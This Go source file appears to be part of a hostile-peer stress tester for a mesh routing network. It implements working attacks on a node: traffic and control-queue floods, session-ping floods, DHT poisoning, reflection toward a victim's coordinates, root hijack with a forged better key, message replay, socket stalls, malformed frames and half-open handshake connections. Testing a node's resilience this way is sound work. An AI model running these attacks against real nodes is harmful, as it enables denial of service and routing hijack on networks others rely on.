package main

// The attacks. Each runs on one handshaken link (except conns) until ctx
// ends or the link fails; the dial loop in attacker.go reconnects.

import (
	"context"
	"io"
	"math"
	"sync"
	"time"

	"github.com/yggmesh/ygg/src/core/hostiletest"
	"github.com/yggmesh/ygg/src/crypto"
	"github.com/yggmesh/ygg/src/wire"
)

// attacks in the order "all" runs them.
var attacks = []attack{
	{name: "tiny", link: attackTiny},
	{name: "control", link: attackControl},
	{name: "sessions", link: attackSessions},
	{name: "dht", link: attackDHT, handler: answerDHT},
	{name: "reflect", link: attackReflect},
	{name: "root", link: attackRoot},
	{name: "reannounce", link: attackReannounce},
	{name: "replay", link: attackReplay},
	{name: "stall", link: attackStall},
	{name: "garbage", link: attackGarbage},
	{name: "conns", loop: attackConns},
}

// floodBlockLen is how many packets one flood write carries.
const floodBlockLen = 256

// attackTiny floods small traffic packets toward the flood coords without
// reading, so with "self" the node's queue toward us fills. Handles and
// flow keys vary, so the packets fall into many queue streams.
func attackTiny(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	ann, coords, err := a.prepareFlood(p)
	if err != nil {
		return err
	}
	payload := a.keys.Bytes(a.cfg.size)
	blk := hostiletest.NewBlock()
	for i := range floodBlockLen {
		blk.Add(hostiletest.TrafficPacket(coords, uint64(i%16)+1, a.keys.Handle(), a.keys.Nonce(), payload))
	}
	return a.flood(ctx, p, blk, a.refresher(p, ann))
}

// attackControl floods protocol traffic (type 1) toward the flood coords,
// to made-up keys, without reading: it fills the control queues.
func attackControl(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	ann, coords, err := a.prepareFlood(p)
	if err != nil {
		return err
	}
	from := p.Identity().BoxPub
	payload := a.keys.Bytes(a.cfg.size + crypto.BoxOverhead)
	blk := hostiletest.NewBlock()
	for _, kp := range p.MadeUp(floodBlockLen) {
		blk.Add(hostiletest.ProtocolPacket(coords, kp.Pub, from, a.keys.Nonce(), payload))
	}
	return a.flood(ctx, p, blk, a.refresher(p, ann))
}

// prepareFlood announces, stops reading and finds the flood's coords.
func (a *attacker) prepareFlood(p *hostiletest.Peer) (*wire.SwitchMsg, wire.Coords, error) {
	ann, err := a.announce(p)
	if err != nil {
		return nil, nil, err
	}
	p.Pause()
	coords, err := a.floodCoords(p)
	return ann, coords, err
}

// pingStamps are the session-ping timestamps used in turn: now, zero,
// negative, the most negative, a day ahead, a day behind.
func pingStamp(i int) int64 {
	now := time.Now().Unix()
	return [...]int64{now, 0, -1, math.MinInt64, now + 86400, now - 86400}[i%6]
}

// attackSessions sends session pings to the node, each from a fresh key.
func attackSessions(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	if _, err := a.announce(p); err != nil {
		return err
	}
	ours, err := p.OurCoords()
	if err != nil {
		return err
	}
	i := 0
	return paced(ctx, a.cfg.rate, func(n int) error {
		blk := hostiletest.NewBlock()
		for range n {
			ping := a.keys.SessionPing(pingStamp(i), ours)
			pkt, err := p.ToNode(a.keys.BoxKeyPair(), ping.Encode(nil))
			if err != nil {
				return err
			}
			blk.Add(pkt)
			i++
		}
		return a.send(p, blk)
	})
}

// answerDHT answers every DHT request to one of our keys, made-up ones
// included, with -entries made-up nodes under our coords, and counts it.
func answerDHT(a *attacker) hostiletest.Handler {
	answer := hostiletest.AnswerDHTRequests(a.cfg.entries)
	return func(p *hostiletest.Peer, ev hostiletest.Event) {
		if ev.Protocol != nil && ev.Protocol.DHTReq != nil {
			answer(p, ev)
			a.st.answers.Add(1)
		}
	}
}

// attackDHT re-sends our switch message at -rate: the node DHT-pings us
// after each, and the handler answers with made-up nodes, whose pings it
// answers in turn.
func attackDHT(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	ann, err := a.announce(p)
	if err != nil {
		return err
	}
	frame := p.SealSwitchMsg(ann)
	return paced(ctx, a.cfg.rate, func(n int) error {
		return a.send(p, hostiletest.RepeatBlock(frame, n))
	})
}

// attackReflect asks the node, from made-up keys, for DHT lookups and
// NodeInfo with the -victim coords as the reply address.
func attackReflect(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	if _, err := a.announce(p); err != nil {
		return err
	}
	victim, err := parseCoords(a.cfg.victim)
	if err != nil {
		return err
	}
	i := 0
	return paced(ctx, a.cfg.rate, func(n int) error {
		blk := hostiletest.NewBlock()
		for _, kp := range p.MadeUp(n) {
			var inner []byte
			if i++; i%2 == 0 {
				var dest crypto.NodeID
				_, _ = a.keys.Read(dest[:])
				inner = (&wire.DHTReq{Coords: victim, Dest: dest}).Encode(nil)
			} else {
				inner = (&wire.NodeInfoReq{Coords: victim}).Encode(nil)
			}
			pkt, err := p.ToNode(kp, inner)
			if err != nil {
				return err
			}
			blk.Add(pkt)
		}
		return a.send(p, blk)
	})
}

// attackRoot declares us root with a newer timestamp in every message. It
// first needs a signing key that beats the node's root: when ours does
// not, it makes one and reconnects with it.
func attackRoot(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	m, err := p.WaitNodeMsg(nodeMsgWait)
	if err != nil {
		return err
	}
	node, id := p.Node(), p.Identity()
	// Our key must beat the node's, and the root's unless we are it already.
	if (m.Root != id.SigPub && !id.SigPub.Better(&m.Root)) || !id.SigPub.Better(&node.Sig) {
		better := a.keys.IdentityBetterThan(m.Root, node.Sig)
		a.identity = &better
		return errRedial
	}
	stamp := time.Now().Unix()
	return paced(ctx, a.cfg.rate, func(n int) error {
		blk := hostiletest.NewBlock()
		for range n {
			stamp++
			blk.Add(p.SealSwitchMsg(p.RootAnnouncement(stamp, 1)))
		}
		return a.send(p, blk)
	})
}

// attackReannounce sends the node's own parent chain (the node's message
// without its hop to us), or when the node is root our extension of it,
// with only the unsigned last port changed, at -rate.
func attackReannounce(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	if _, err := a.announce(p); err != nil {
		return err
	}
	port := uint64(0)
	return paced(ctx, a.cfg.rate, func(n int) error {
		m, _ := p.NodeMsg()
		base, ok := hostiletest.ParentChain(m)
		if !ok {
			base = p.Extend(m, 1)
		}
		blk := hostiletest.NewBlock()
		for range n {
			port = port%255 + 1 // never 0, which no real coords hold
			blk.Add(p.SealSwitchMsg(hostiletest.WithLastPort(base, port)))
		}
		return a.send(p, blk)
	})
}

// attackReplay seals one valid switch message once and sends that frame
// again and again.
func attackReplay(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	ann, err := a.announce(p)
	if err != nil {
		return err
	}
	blk := hostiletest.RepeatBlock(p.SealSwitchMsg(ann), floodBlockLen)
	return a.flood(ctx, p, blk, func() error { return nil })
}

// attackStall stops reading and keeps asking the node for NodeInfo and DHT
// answers sent to us, so its writes toward us fill the socket and block.
func attackStall(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	ann, err := a.announce(p)
	if err != nil {
		return err
	}
	p.Pause()
	ours, err := p.OurCoords()
	if err != nil {
		return err
	}
	own, refresh := p.Identity().Box(), a.refresher(p, ann)
	node := p.Node()
	nodeID := node.Box.NodeID()
	return paced(ctx, a.cfg.rate, func(n int) error {
		if err := refresh(); err != nil {
			return err
		}
		blk := hostiletest.NewBlock()
		for i := range n {
			inner := (&wire.NodeInfoReq{Coords: ours}).Encode(nil)
			if i%2 == 1 {
				inner = (&wire.DHTReq{Coords: ours, Dest: nodeID}).Encode(nil)
			}
			pkt, err := p.ToNode(own, inner)
			if err != nil {
				return err
			}
			blk.Add(pkt)
		}
		return a.send(p, blk)
	})
}

// garbageKinds are the bad inputs, one per connection, in turn.
var garbageKinds = []func(a *attacker, p *hostiletest.Peer) []byte{
	func(*attacker, *hostiletest.Peer) []byte { return []byte{0xde, 0xad, 0xbe, 0xef, 1, 0} }, // bad magic
	func(*attacker, *hostiletest.Peer) []byte { return wire.AppendFrameHeader(nil, wire.MaxFrameLen+1) },
	func(*attacker, *hostiletest.Peer) []byte { return []byte{0xde, 0xad, 0xb1, 0x75, 0x80, 0x80, 0x80, 1} }, // overlong length
	func(a *attacker, _ *hostiletest.Peer) []byte { // random bytes, never a valid magic
		b := a.keys.Bytes(4096)
		b[0] = 0
		return b
	},
	func(a *attacker, _ *hostiletest.Peer) []byte { // frames of unknown types: ignored, link stays
		blk := hostiletest.NewBlock()
		for range 64 {
			msg := a.keys.Bytes(1 + int(a.keys.Uint64()%300))
			msg[0] = 10 + msg[0]%100
			blk.Add(msg)
		}
		return blk.Bytes()
	},
	func(_ *attacker, p *hostiletest.Peer) []byte { // a switch message with no hops
		m := p.RootAnnouncement(time.Now().Unix(), 1)
		m.Hops = nil
		return hostiletest.NewBlock(p.SealSwitchMsg(m)).Bytes()
	},
	func(_ *attacker, p *hostiletest.Peer) []byte { // a bad signature
		m := p.RootAnnouncement(time.Now().Unix(), 1)
		m.Hops[0].Sig[10] ^= 0x40
		return hostiletest.NewBlock(p.SealSwitchMsg(m)).Bytes()
	},
}

// attackGarbage sends one kind of garbage, waits briefly for the node to
// close the link (counted as lost) and moves to the next kind.
func attackGarbage(ctx context.Context, a *attacker, p *hostiletest.Peer) error {
	b := garbageKinds[a.round%len(garbageKinds)](a, p)
	a.round++
	if err := p.WriteRaw(b); err != nil {
		return err
	}
	a.st.sent(0, len(b))
	if p.WaitClosed(time.Second) == nil {
		a.st.lost.Add(1)
	}
	return errRedial
}

// attackConns holds -conns connections that never finish the handshake:
// a third send nothing, a third half a metadata, a third all but its last
// byte. One the node closes is opened again.
func attackConns(ctx context.Context, a *attacker) {
	var wg sync.WaitGroup
	for i := range a.cfg.conns {
		partial := [...]int{0, wire.MetadataLen / 2, wire.MetadataLen - 1}[i%3]
		wg.Add(1)
		go func() {
			defer wg.Done()
			a.holdIdle(ctx, partial)
		}()
	}
	wg.Wait()
}

func (a *attacker) holdIdle(ctx context.Context, partial int) {
	for ctx.Err() == nil {
		conns, err := hostiletest.DialIdle(ctx, a.addr, 1, partial)
		if err != nil {
			for _, c := range conns {
				c.Close()
			}
			if ctx.Err() == nil {
				a.st.dialErrors.Add(1)
				sleep(ctx, retryPause)
			}
			continue
		}
		c := conns[0]
		a.st.connected.Add(1)
		a.st.idle.Add(1)
		a.st.sent(0, partial)
		stop := context.AfterFunc(ctx, func() { c.Close() })
		_, _ = io.Copy(io.Discard, c) // the node's metadata, then its close
		stop()
		c.Close()
		a.st.idle.Add(-1)
		if ctx.Err() == nil {
			a.st.lost.Add(1)
			sleep(ctx, retryPause)
		}
	}
}
